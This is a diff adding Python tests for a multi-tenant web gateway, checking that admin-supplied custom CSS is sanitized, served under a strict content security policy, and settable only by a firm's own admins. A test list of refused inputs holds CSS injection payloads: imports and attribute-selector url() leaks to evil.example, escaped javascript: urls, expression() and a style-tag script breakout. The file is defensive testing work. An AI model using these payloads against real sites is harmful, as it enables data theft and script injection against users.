@@ -114,3 +114,92 @@ def test_only_a_firms_own_admins_change_it(gateway: Gateway) -> None:
     assert gateway.get("/api/v1/tenant").json()["name"] == "PropTrade"  # A untouched
     mine = gateway.get("/api/v1/admin/tenant", beta, headers={"Host": "beta.example"})
     assert mine.json()["slug"] == "beta"
+
+
+# -- the firm's own CSS -------------------------------------------------------------------
+
+REFUSED = [
+    ("@import url(https://evil.example/x.css);", "import"),
+    ("@import 'https://evil.example/x.css';", "import"),
+    ("@\\69mport url(https://evil.example/x.css);", "import"),  # an escape is decoded first
+    ("@charset 'utf-8'; a { color: red }", "charset"),
+    ("@namespace svg url(http://www.w3.org/2000/svg);", "namespace"),
+    ("@font-face { font-family: X; src: url(https://fonts.example/x.woff2) }", "font-face"),
+    ("@font-face { font-family: X; src: local(Arial) }", "font-face"),
+    ("@page { margin: 0 }", "at-rule"),
+    ("input[value^=a] { background: url(https://evil.example/?a) }", "url"),
+    ("a { background: url('//evil.example/x.png') }", "url"),
+    ("a { background: u\\72l(https://evil.example/x.png) }", "url"),
+    ("a { background: image-set('https://evil.example/x.png' 1x) }", "image-set"),
+    ("a { width: expression(alert(1)) }", "expression"),
+    ("a { background: url(javascript:alert(1)) }", "javascript"),
+    ("a { background: url('java\\73 cript:alert(1)') }", "javascript"),  # escaped
+    ("a { background: url(https://evil.example/(x) }", "syntax"),  # a bad url(
+    ("a { behavior: url(/brand/logo.png) }", "binding"),
+    ("a { -moz-binding: url(/brand/logo.png) }", "binding"),
+    ("a { color: red } </style><script>alert(1)</script>", "style-end"),
+    ("@media screen { a { background: url(https://evil.example/m) } }", "url"),
+    ("a { color: red; & b { background: url(https://evil.example/n) } }", "url"),
+]
+
+
+def test_refused_css_names_the_rule(gateway: Gateway) -> None:
+    admin = staff(gateway, "admin")
+    for css, rule in REFUSED:
+        for path, method in (("/api/v1/admin/tenant/css", "PUT"),
+                             ("/api/v1/admin/tenant/css/check", "POST")):
+            answer = gateway.request(method, path, admin, json={"css": css})
+            assert answer.status_code == 422, (css, answer.text)
+            error = answer.json()["error"]
+            assert error["code"] == "css_refused"
+            assert f"refused by the rule '{rule}'" in error["message"], (css, error)
+            assert error["fields"][0]["path"] == "$.css"
+    too_big = gateway.request("PUT", "/api/v1/admin/tenant/css", admin,
+                              json={"css": "a{color:red}" * 3000})
+    assert too_big.status_code == 422
+    assert "refused by the rule 'size'" in too_big.json()["error"]["message"]
+    assert gateway.get("/brand.css").status_code == 404  # nothing was stored
+    assert gateway.get("/api/v1/admin/tenant/css", admin).json() == {"css": "", "url": ""}
+
+
+def test_admin_css_is_served_as_the_firms_stylesheet(gateway: Gateway) -> None:
+    admin = staff(gateway, "admin")
+    css = ("@media (min-width: 40rem) { header { border-bottom: 4px solid #b4121b } }\n"
+           ".card { background: url(/brand/logo.png?v=0123abcd) no-repeat; }\n"
+           "body { font-weight: 450 }")
+    checked = gateway.request("POST", "/api/v1/admin/tenant/css/check", admin,
+                              json={"css": css})
+    assert checked.status_code == 200 and gateway.get("/brand.css").status_code == 404
+    answer = gateway.request("PUT", "/api/v1/admin/tenant/css", admin, json={"css": css})
+    assert answer.status_code == 200, answer.text
+    url = answer.json()["url"]
+    assert url.startswith("/brand.css?v=")
+    served = gateway.get(url)
+    assert served.text == css and served.headers["Content-Type"].startswith("text/css")
+    assert "immutable" in served.headers["Cache-Control"]
+    page = gateway.get("/dashboard")
+    assert f'<link rel="stylesheet" href="{url}" />' in page.text
+    # the pages' policy is unchanged: styles from the site and the nonce only
+    assert "style-src 'self' 'nonce-" in page.headers["Content-Security-Policy"]
+    assert "unsafe-inline" not in page.headers["Content-Security-Policy"]
+    assert gateway.get("/api/v1/admin/tenant/css", admin).json() == {"css": css, "url": url}
+    # empty removes it
+    gone = gateway.request("PUT", "/api/v1/admin/tenant/css", admin, json={"css": ""})
+    assert gone.json() == {"css": "", "url": ""}
+    assert gateway.get("/brand.css").status_code == 404
+    assert "/brand.css" not in gateway.get("/dashboard").text
+
+
+def test_only_the_firms_admins_set_its_css(gateway: Gateway) -> None:
+    add_firm(gateway, "beta", "beta.example")
+    risk = staff(gateway, "risk")
+    body = {"css": "body { color: #111 }"}
+    assert gateway.request("PUT", "/api/v1/admin/tenant/css", None, json=body
+                           ).status_code == 401
+    assert gateway.request("PUT", "/api/v1/admin/tenant/css", risk, json=body
+                           ).status_code == 404
+    beta = staff(gateway, "admin", "beta.example")
+    assert gateway.request("PUT", "/api/v1/admin/tenant/css", beta, json=body,
+                           headers={"Host": "beta.example"}).status_code == 200
+    assert gateway.get("/brand.css", headers={"Host": "beta.example"}).text == body["css"]
+    assert gateway.get("/brand.css").status_code == 404  # the default firm has none
